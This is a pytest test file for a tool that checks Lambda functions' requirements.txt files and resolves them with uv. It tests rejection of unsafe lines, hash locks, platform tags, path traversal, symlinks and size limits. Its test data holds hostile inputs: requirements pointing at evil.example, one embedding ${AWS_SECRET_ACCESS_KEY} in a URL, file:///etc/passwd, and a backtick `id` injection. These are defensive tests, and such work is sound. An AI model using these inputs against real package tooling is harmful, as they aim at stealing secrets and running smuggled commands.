"""What functions require: what a `requirements.txt` may say, and what uv makes of it for Lambda."""

from __future__ import annotations

import io
import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from mayfly.workload.functions import dependencies, zipped
from tests.support.wheels import Wheels
from tests.workload.functions_folder import FunctionsFolder

WHERE = "flights/functions/load/requirements.txt"


@pytest.fixture
def wheels(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Wheels:
    return Wheels(tmp_path, monkeypatch)


@pytest.fixture
def nothing_runs(monkeypatch: pytest.MonkeyPatch) -> None:
    def run(*_: object, **__: object) -> None:
        raise AssertionError("uv is asked")

    monkeypatch.setattr(subprocess, "run", run)


@pytest.mark.usefixtures("nothing_runs")
@pytest.mark.parametrize(
    ("line", "what"),
    [
        ("--index-url https://evil.example/simple", "is an option"),
        ("--extra-index-url=https://evil.example", "is an option"),
        ("-e .", "is an option"),
        ("-r ../../secrets.txt", "is an option"),
        ("--no-binary :all:", "is an option"),
        ("--find-links /tmp", "is an option"),
        ("requests==2.32.5 --no-binary=requests", "is no requirement"),
        ("evil @ https://evil.example/evil-1.0-py3-none-any.whl", "is an address"),
        ("evil @ file:///etc/passwd", "is an address"),
        ("evil@ git+ssh://evil.example/x", "is an address"),
        ("git+https://evil.example/x", "is an address"),
        ("https://evil.example/${AWS_SECRET_ACCESS_KEY}.whl", "is an address"),
        ("./evil", "is a path"),
        ("../evil-1.0.tar.gz", "is a path"),
        ("/etc/passwd", "is a path"),
        ("evil-1.0-py3-none-any.whl", "is a path"),
        ("C:\\evil", "is a path"),
        ("${AWS_SECRET_ACCESS_KEY}", "is no requirement"),
        ("requests==${VERSION}", "is no requirement"),
        ("requests; python_version < '3' `id`", "is no requirement"),
        ("requests 2.32", "is no requirement"),
        ("re\x1bquests", "is no requirement"),
    ],
)
def test_a_line_is_a_package_and_versions_and_nothing_else(
    functions: FunctionsFolder, line: str, what: str
) -> None:
    functions.write("load/requirements.txt", f"# fine\nrequests>=2\n\n{line}\n")
    (problem,) = functions.problems()
    assert problem.where == f"{WHERE}:4"
    assert problem.what.endswith(what)
    assert str(problem).isprintable()


@pytest.mark.usefixtures("nothing_runs")
def test_a_lock_is_one_for_all_lines_or_for_none(functions: FunctionsFolder) -> None:
    digest = "--hash=sha256:" + "a" * 64
    functions.write("load/requirements.txt", f"a==1 {digest}\nb==2\nc>=3 {digest}\nd==4.* \\\n  {digest}\n")
    assert [(problem.where, problem.what) for problem in functions.problems()] == [
        (f"{WHERE}:2", "'b==2' has no hash, and others have"),
        (f"{WHERE}:3", "'c>=3' has hashes and no ==<version>"),
        (f"{WHERE}:4", "'d==4.*' has hashes and no ==<version>"),
    ]


@pytest.mark.usefixtures("nothing_runs")
@pytest.mark.parametrize("content", ["", "# none\n\n  # at all\n"])
def test_one_that_asks_for_nothing_is_as_none(functions: FunctionsFolder, content: str) -> None:
    functions.write("load/requirements.txt", content)
    assert functions.one().dependencies is None
    assert "requirements.txt" not in functions.one().files


def test_what_is_required_lies_beside_the_handler_the_same_each_time(
    functions: FunctionsFolder, wheels: Wheels, tmp_path: Path
) -> None:
    wheels.wheel("one", needs="two>=1", scripts="run = one:main")
    wheels.wheel("two")
    functions.write("load/requirements.txt", "one\n")
    first = zipped(functions.one())
    names = zipfile.ZipFile(io.BytesIO(first)).namelist()
    assert {"handler.py", "one/__init__.py", "two/__init__.py"} < {*names}
    assert not [name for name in names if name.startswith("bin/") or name.endswith("INSTALLER")]
    shutil.rmtree(tmp_path / "cache")
    assert zipped(functions.one()) == first
    lock = functions.one().dependencies
    assert lock is not None
    assert [line.split()[0] for line in lock.lock.splitlines() if "==" in line] == ["one==1.0", "two==1.0"]
    assert lock.lock.count("--hash=sha256:") == 2


def test_what_is_resolved_is_kept_and_asked_for_no_more(
    functions: FunctionsFolder, wheels: Wheels, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheels.wheel("one")
    functions.write("load/requirements.txt", "one\n")
    found = functions.one().dependencies
    monkeypatch.setattr(subprocess, "run", None)
    functions.write("load/requirements.txt", "# said otherwise\n one # and why\n")
    assert functions.one().dependencies == found


def test_a_lock_is_taken_by_its_hashes_alone(functions: FunctionsFolder, wheels: Wheels) -> None:
    kept = wheels.wheel("one")
    functions.write("load/requirements.txt", f"one==1.0 \\\n    {kept}\n")
    assert functions.one().dependencies is not None
    functions.write("load/requirements.txt", f"one==1.0 --hash=sha256:{'0' * 64}\n")
    (problem,) = functions.problems()
    assert problem.where.startswith(WHERE)
    assert "ash" in problem.what  # Hash mismatch, in uv's words
    functions.write("load/requirements.txt", f"two==1.0 {wheels.wheel('two', needs='one')}\n")
    (problem,) = functions.problems()
    assert "one" in problem.what


def test_what_has_no_wheel_for_lambda_is_told_of_all_functions_at_once_and_never_built(
    functions: FunctionsFolder, wheels: Wheels, tmp_path: Path
) -> None:
    marker = tmp_path / "ran"
    wheels.source("sdist", f"open({str(marker)!r}, 'w')\n")
    wheels.wheel("windows", tag="cp312-cp312-win_amd64")
    wheels.wheel("musl", tag="cp312-cp312-musllinux_1_2_x86_64")
    wheels.wheel("arm", tag="cp312-cp312-manylinux_2_17_aarch64")
    wheels.wheel("old", tag="cp311-cp311-manylinux_2_17_x86_64")
    wheels.wheel("newest", tag="cp312-cp312-manylinux_2_39_x86_64")
    wheels.wheel("fine", tag="cp312-cp312-manylinux_2_28_x86_64")
    functions.write("load/requirements.txt", "sdist\nfine\nwindows==1.0\nmusl\narm\nold\nnewest\n")
    functions.write(
        "more/function.yaml", "runtime: python3.12\nmemory: 128\ntimeout: 1\nhandler: handler.none\n"
    )
    functions.write("more/handler.py", "def main(event, context): pass\n")
    functions.write("most/function.yaml", "runtime: python3.12\nmemory: 128\ntimeout: 1\n")
    functions.write("most/handler.py", "def main(event, context): pass\n")
    functions.write("most/requirements.txt", "fine\nnosuch\n")
    places = [problem.where for problem in functions.problems()]
    wanted = [f"{WHERE}:{line}" for line in (1, 3, 4, 5, 6, 7)]
    assert places == ["flights/functions/more/handler.py", *wanted, f"{WHERE.replace('load', 'most')}:2"]
    assert not marker.exists()


def test_the_oldest_runtime_has_an_older_system(functions: FunctionsFolder, wheels: Wheels) -> None:
    wheels.wheel("one", tag="py3-none-manylinux_2_28_x86_64")
    functions.write("load/requirements.txt", "one\n")
    assert functions.one().dependencies is not None
    functions.write("load/function.yaml", "runtime: python3.11\nmemory: 128\ntimeout: 1\n")
    (problem,) = functions.problems()
    assert "for Python 3.11 on x86_64-manylinux_2_17" in problem.what


def test_nothing_of_the_workload_configures_uv(
    functions: FunctionsFolder, wheels: Wheels, monkeypatch: pytest.MonkeyPatch
) -> None:
    wheels.wheel("one")
    functions.write("load/requirements.txt", "one\n")
    for place in (functions.root, functions.root / "functions/load"):
        (place / "uv.toml").write_text("no such = setting\n")
        (place / "pyproject.toml").write_text("[tool.uv]\nno-such = 1\n")
        (place / ".python-version").write_text("2.7\n")
    monkeypatch.chdir(functions.root / "functions/load")
    assert functions.one().dependencies is not None


@pytest.mark.usefixtures("nothing_runs")
def test_nothing_is_taken_out_of_a_cache_that_the_workload_brings(
    functions: FunctionsFolder, monkeypatch: pytest.MonkeyPatch
) -> None:
    (functions.root.parent / ".git").mkdir()
    monkeypatch.setenv("XDG_CACHE_HOME", str(functions.root.parent / "cache"))
    functions.write("load/requirements.txt", "one\n")
    (problem,) = functions.problems()
    assert problem.where == "XDG_CACHE_HOME"
    assert "into the workload's checkout" in problem.what


def test_a_package_can_name_files_outside_of_itself_and_gets_none(
    functions: FunctionsFolder, wheels: Wheels, tmp_path: Path
) -> None:
    secret = tmp_path / "secret"
    secret.write_text("token")
    hops = os.path.relpath(secret, "/")
    wheels.wheel("one", {"one/__init__.py": b"", f"../../../../../../../../../../{hops}": b"x"})
    functions.write("load/requirements.txt", "one\n")
    found = functions.one().dependencies
    assert found is not None
    assert all(".." not in name and b"token" not in content for name, content in found.files().items())
    assert secret.read_text() == "token"


def test_a_link_in_a_package_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text("token")
    site = tmp_path / "site"
    (site / "one-1.dist-info").mkdir(parents=True)
    (site / "one-1.dist-info/RECORD").write_text("one.py,,\n")
    (site / "one.py").symlink_to(tmp_path / "secret")
    with pytest.raises(Exception, match="is a link"):
        list(dependencies._packages(site))


def test_large_ones_are_layers_shared_by_all_that_ask_alike(
    functions: FunctionsFolder, wheels: Wheels, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(dependencies, "LARGEST_INSIDE", 1000)
    wheels.wheel("one", {"one/__init__.py": b"", "one/data": b"x" * 2000})
    functions.write("load/requirements.txt", "one\n")
    functions.write("more/function.yaml", "runtime: python3.12\nmemory: 128\ntimeout: 1\n")
    functions.write("more/handler.py", "def main(event, context): pass\n")
    functions.write("more/requirements.txt", "one  # too\n")
    found = functions.load().functions
    (part,) = found["load"].layer_parts
    assert found["more"].layer_parts == (part,)
    assert zipfile.ZipFile(part.path).namelist()[-1] == "python/one/data"
    assert zipfile.ZipFile(io.BytesIO(zipped(found["load"]))).namelist() == ["handler.py"]


def test_limits_of_lambda_are_told(
    functions: FunctionsFolder, wheels: Wheels, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(dependencies, "LARGEST_INSIDE", 100)
    monkeypatch.setattr(dependencies, "LARGEST_UPLOAD", 5000)
    for name in "abcdef":
        wheels.wheel(name, {f"{name}/data": os.urandom(3000)})
    functions.write("load/requirements.txt", "a\nb\n")
    assert [sorted(part.path.name) for part in functions.one().layer_parts] == [
        sorted("1.zip"),
        sorted("2.zip"),
    ]
    functions.write("load/requirements.txt", "a\nb\nc\nd\ne\nf\n")
    (problem,) = functions.problems()
    assert (problem.where, problem.what) == (WHERE, "makes 6 layers of the function's 6")
    wheels.wheel("big", {"big/data": os.urandom(6000)})
    functions.write("load/requirements.txt", "big\n")
    (problem,) = functions.problems()
    assert "one package has" in problem.what
    assert "big 1.0" in problem.what
    monkeypatch.setattr(dependencies, "LARGEST", 4000)
    functions.write("load/requirements.txt", "a\nc\n")
    (problem,) = functions.problems()
    assert "when unpacked" in problem.what
    functions.write("load/requirements.txt", "a\n")
    functions.write("load/more", b"x" * 1000)
    (problem,) = functions.problems()
    assert "with the function's own files" in problem.what


def test_a_file_of_the_function_is_not_replaced(functions: FunctionsFolder, wheels: Wheels) -> None:
    wheels.wheel("one", {"handler.py": b""})
    functions.write("load/requirements.txt", "one\n")
    (problem,) = functions.problems()
    assert problem.what == "brings handler.py, which the function has too"
